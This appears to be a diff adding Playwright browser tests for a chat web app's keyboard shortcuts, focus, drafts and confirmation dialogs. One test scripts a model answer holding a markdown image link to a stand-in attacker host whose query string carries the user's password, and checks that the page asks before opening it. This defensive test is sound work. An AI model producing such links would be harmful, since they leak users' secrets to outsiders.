@@ -1,0 +1,308 @@
+"""Keys, focus, drafts and questions: what a careful page does for the one who uses it."""
+
+import re
+from collections.abc import Callable
+
+from playwright.sync_api import Route, expect
+
+from tests.browser.visitor import Visitor
+from tests.servers import Server
+from tests.upstream import Gate, Upstream, stream
+
+PLAIN_HTTP = """() => {
+    Object.defineProperty(crypto, "randomUUID", { value: undefined })
+    Object.defineProperty(navigator, "clipboard", { value: undefined })
+}"""
+
+
+def running(visitor: Visitor, upstream: Upstream, *before: str) -> Gate:
+    """Asks, and has an answer that waits after these words."""
+    gate = Gate()
+    upstream.script(stream(*before, gate, " end"), model="mirror")
+    visitor.asks("mirror")
+    visitor.sees_status("running")
+    return gate
+
+
+def test_a_question_mark_lists_the_keys_and_escape_only_closes_the_list(
+    visitor: Visitor, upstream: Upstream
+) -> None:
+    gate = running(visitor, upstream, "Hello")
+    visitor.message.press("?")
+    expect(visitor.message).to_have_value("?")
+    visitor.page.get_by_role("log", name="Messages").focus()
+    visitor.presses("?")
+    keys = visitor.page.get_by_role("dialog", name="Keyboard shortcuts")
+    expect(keys).to_contain_text("Break the line")
+    visitor.presses("Escape")
+    expect(keys).to_be_hidden()
+    expect(visitor.page.get_by_role("log", name="Messages")).to_be_focused()
+    visitor.sees_status("running")
+    visitor.button("Keyboard shortcuts").click()
+    visitor.button("Close", keys).click()
+    expect(visitor.button("Keyboard shortcuts")).to_be_focused()
+    gate.open()
+    visitor.sees_answer("Hello end")
+
+
+def test_escape_stops_and_the_focus_is_in_the_composer(visitor: Visitor, upstream: Upstream) -> None:
+    gate = running(visitor, upstream, "Hello")
+    visitor.button("Stop").focus()
+    visitor.presses("Enter")
+    visitor.sees_status("stopped")
+    expect(visitor.message).to_be_focused()
+    gate.open()
+    gate = running(visitor, upstream, "Hello")
+    visitor.presses("Escape")
+    visitor.sees_status("stopped")
+    gate.open()
+
+
+def test_the_composer_has_the_focus_after_an_edit(visitor: Visitor) -> None:
+    visitor.asks("mirror")
+    visitor.sees_answer()
+    visitor.message.press("ArrowUp")
+    expect(visitor.field("Edit message")).to_be_focused()
+    visitor.presses("Escape")
+    expect(visitor.message).to_be_focused()
+    expect(visitor.field("Edit message")).to_have_count(0)
+
+
+def test_control_and_enter_send_from_the_system_prompt_and_enter_in_a_setting_sends_nothing(
+    visitor: Visitor, upstream: Upstream
+) -> None:
+    visitor.opens()
+    visitor.chooses("mirror")
+    visitor.writes("Not yet")
+    visitor.number("Temperature").fill("0.5")
+    visitor.number("Temperature").press("Enter")
+    expect(visitor.questions).to_have_count(0)
+    visitor.field("System prompt").fill("Be brief")
+    visitor.field("System prompt").press("Enter")
+    expect(visitor.questions).to_have_count(0)
+    visitor.field("System prompt").press("Control+Enter")
+    visitor.sees_answer("Not yet")
+    assert upstream.requests[-1].body["temperature"] == 0.5
+
+
+def test_a_running_answer_says_what_it_does_and_for_how_long(visitor: Visitor, upstream: Upstream) -> None:
+    gate = running(visitor, upstream)
+    facts = visitor.answers.last.get_by_role("list", name="Facts")
+    expect(facts).to_contain_text(re.compile(r"waiting for the first token · [1-9]\d* s"))
+    visitor.reloads()
+    expect(facts).to_contain_text(re.compile(r"waiting for the first token · [1-9]\d* s"))
+    gate.open()
+    visitor.sees_answer("end")
+    expect(facts).not_to_contain_text("waiting")
+
+
+def test_the_dot_of_another_conversation_goes_out_when_its_answer_ends(
+    visitor: Visitor, upstream: Upstream
+) -> None:
+    gate = running(visitor, upstream, "Hello")
+    path = visitor.path
+    visitor.opens()
+    row = visitor.history.locator(f"a[href='{path}']")
+    expect(row).to_contain_text("running")
+    gate.open()
+    expect(row).not_to_contain_text("running")
+
+
+def test_a_system_prompt_and_an_edit_survive_a_reload(visitor: Visitor, upstream: Upstream) -> None:
+    visitor.opens()
+    visitor.field("System prompt").fill("Speak like a clock")
+    visitor.reloads()
+    expect(visitor.field("System prompt")).to_have_value("Speak like a clock")
+    visitor.chooses("mirror")
+    visitor.sends("First words")
+    visitor.sees_answer()
+    visitor.does("Edit", visitor.questions.first)
+    visitor.field("Edit message").fill("Better words")
+    visitor.reloads()
+    visitor.does("Edit", visitor.questions.first)
+    expect(visitor.field("Edit message")).to_have_value("Better words")
+    visitor.button("Cancel").click()
+    visitor.does("Edit", visitor.questions.first)
+    expect(visitor.field("Edit message")).to_have_value("First words")
+    visitor.opens()
+    expect(visitor.field("System prompt")).to_have_value("")
+
+
+def test_what_is_typed_while_the_first_message_is_sent_stays(visitor: Visitor) -> None:
+    visitor.opens()
+    visitor.chooses("mirror")
+
+    def slowly(route: Route) -> None:
+        visitor.message.press_sequentially("!")
+        route.continue_()
+
+    visitor.page.route("**/c/", slowly)
+    visitor.sends("Hello")
+    visitor.sees_answer("Hello")
+    expect(visitor.message).to_have_value("!")
+    visitor.reloads()
+    expect(visitor.message).to_have_value("!")
+    visitor.opens()
+    expect(visitor.message).to_have_value("")
+
+
+def test_two_presses_of_enter_send_once(visitor: Visitor, upstream: Upstream) -> None:
+    visitor.opens()
+    visitor.chooses("mirror")
+    visitor.writes("Once only")
+    asked = len(upstream.requests)
+    visitor.evaluate(
+        "() => { const form = document.querySelector('#composer'); form.requestSubmit(); form.requestSubmit() }"
+    )
+    visitor.sees_answer("Once only")
+    expect(visitor.history.get_by_role("link", name="Once only")).to_have_count(1)
+    visitor.evaluate("() => document.querySelector('#message').value = 'Twice'")
+    visitor.evaluate(
+        "() => { const form = document.querySelector('#composer'); form.requestSubmit(); form.requestSubmit() }"
+    )
+    expect(visitor.answers).to_have_count(2)
+    visitor.sees_answer("Twice")
+    assert len(upstream.requests) == asked + 2
+
+
+def test_back_and_forward_lead_to_what_stood_there(visitor: Visitor) -> None:
+    visitor.asks("mirror", "One thing")
+    visitor.sees_answer("One thing")
+    visitor.page.go_back()
+    expect(visitor.page.get_by_role("heading", level=1)).to_have_text("New chat")
+    expect(visitor.questions).to_have_count(0)
+    visitor.page.go_forward()
+    visitor.sees_answer("One thing")
+    visitor.sends("And another")
+    expect(visitor.answers).to_have_count(2)
+    visitor.sees_answer("And another")
+
+
+def test_what_another_tab_did_is_shown_when_the_edit_is_over(visitor: Visitor) -> None:
+    visitor.asks("mirror", "One")
+    visitor.sees_answer("One")
+    other = visitor.opens_a_second_tab()
+    other.does("Edit", other.questions.first)
+    visitor.sends("Two")
+    visitor.sees_answer("Two")
+    expect(other.questions).to_have_count(1)
+    other.button("Cancel").click()
+    expect(other.answers).to_have_count(2)
+    other.sees_answer("Two")
+
+
+def test_a_page_that_came_by_plain_http_sends_and_copies(visitor: Visitor) -> None:
+    visitor.context.grant_permissions(["clipboard-read", "clipboard-write"])
+    visitor.page.add_init_script(f"({PLAIN_HTTP})()")
+    visitor.asks("mirror", "No secrets here")
+    visitor.sees_answer("No secrets here")
+    visitor.does("Copy", visitor.answers.last)
+    expect(visitor.page.get_by_text("Copied", exact=True)).to_have_count(1)
+    visitor.message.press("Control+V")
+    expect(visitor.message).to_have_value("No secrets here")
+
+
+def test_links_that_could_carry_words_away_ask_first(visitor: Visitor, upstream: Upstream) -> None:
+    stolen = "https://evil.test/i?d=my%20password%20is%20tulip"
+    text = f"[harmless](https://docs.test/a?b=c) [image]({stolen}) [long](https://long.test/{'a' * 600})"
+    upstream.script(stream(text), model="mirror")
+    visitor.asks("mirror", "Remember: my password is tulip.")
+    visitor.sees_answer("harmless")
+    visitor.context.route(re.compile(r"https://\w+\.test/"), lambda route: route.fulfill(body="away"))
+    question = visitor.page.get_by_role("dialog", name="Open this address?")
+    with visitor.context.expect_page() as opened:
+        visitor.answers.last.get_by_role("link", name="harmless").click()
+    opened.value.close()
+    expect(question).to_be_hidden()
+    visitor.answers.last.get_by_role("link", name="long").click()
+    expect(question).to_contain_text("https://long.test/" + "a" * 600)
+    visitor.button("Stay here").click()
+    visitor.answers.last.get_by_role("link", name="image").click(button="middle")
+    expect(question).to_contain_text("It carries text that you wrote")
+    expect(question).to_contain_text(stolen)
+    expect(visitor.button("Stay here")).to_be_focused()
+    assert len(visitor.context.pages) == 1
+    with visitor.context.expect_page() as opened:
+        question.get_by_role("link", name="Open").click()
+    opened.value.wait_for_url(stolen)
+    expect(question).to_be_hidden()
+
+
+def test_a_drawer_holds_the_focus(server: Server, invite: Callable[..., Visitor]) -> None:
+    visitor = invite(server, viewport={"width": 390, "height": 800}).opens()
+    opener = visitor.page.get_by_role("link", name="Open settings")
+    opener.click()
+    expect(visitor.settings).to_be_in_viewport()
+    for _ in range(60):
+        visitor.presses("Tab")
+        assert visitor.evaluate(
+            "() => document.activeElement === document.body || !!document.activeElement.closest('#settings')"
+        )
+    visitor.presses("Escape")
+    expect(opener).to_be_focused()
+    visitor.writes("Free again")
+
+
+def test_a_conversation_is_deleted_with_the_mouse(visitor: Visitor) -> None:
+    visitor.asks("mirror", "Under the pointer")
+    visitor.sees_answer()
+    row = visitor.history.get_by_role("listitem").filter(has_text="Under the pointer")
+    row.hover()
+    visitor.button("Delete Under the pointer").click()
+    expect(row).to_have_count(0)
+
+
+def test_earlier_messages_come_above_what_is_read(visitor: Visitor, server: Server) -> None:
+    visitor.asks("mirror", "Message 0")
+    visitor.sees_answer("Message 0")
+    for number in range(1, 27):
+        visitor.sends(f"Message {number}")
+        expect(visitor.questions.last).to_contain_text(f"Message {number}")
+        visitor.sees_answer(f"Message {number}")
+    visitor.reloads()
+    visitor.sees_answer("Message 26")
+    expect(visitor.answers).to_have_count(25)
+    log = visitor.page.get_by_role("log", name="Messages")
+    first = visitor.questions.filter(has_text="Message 2").first
+    log.evaluate("log => (log.scrollTop = 0)")
+    before = first.bounding_box()
+    expect(visitor.answers).to_have_count(27)
+    after = first.bounding_box()
+    assert before
+    assert after
+    assert abs(before["y"] - after["y"]) < 4
+
+
+def test_a_provider_is_removed_after_a_question(visitor: Visitor) -> None:
+    visitor.opens("/settings/")
+    form = visitor.page.get_by_role("form", name="Add a provider")
+    form.get_by_label("Name").fill("Short-lived")
+    form.get_by_label("Base URL").fill("http://127.0.0.1:9/v1")
+    visitor.button("Add provider").click()
+    row = visitor.page.get_by_role("group").filter(has_text="Short-lived")
+    row.get_by_text("Short-lived").click()
+    visitor.button("Remove", row).click()
+    question = visitor.page.get_by_role("dialog", name="Remove Short-lived?")
+    visitor.button("Cancel", question).click()
+    expect(visitor.button("Remove", row)).to_be_focused()
+    visitor.button("Remove", row).click()
+    visitor.button("Remove", question).click()
+    expect(row).to_have_count(0)
+
+
+def test_a_model_chosen_before_its_list_has_come_is_the_one_that_answers(
+    visitor: Visitor, upstream: Upstream
+) -> None:
+    def slowly(route: Route) -> None:
+        visitor.page.wait_for_timeout(500)
+        route.continue_()
+
+    visitor.opens()
+    visitor.page.route("**/models/", slowly)
+    model = visitor.page.get_by_role("combobox", name="Model")
+    model.click()
+    visitor.page.keyboard.type("tokens-3-speed-0")
+    model.press("Enter")
+    visitor.sends("Quickly")
+    visitor.sees_answer()
+    assert upstream.requests[-1].body["model"] == "tokens-3-speed-0"
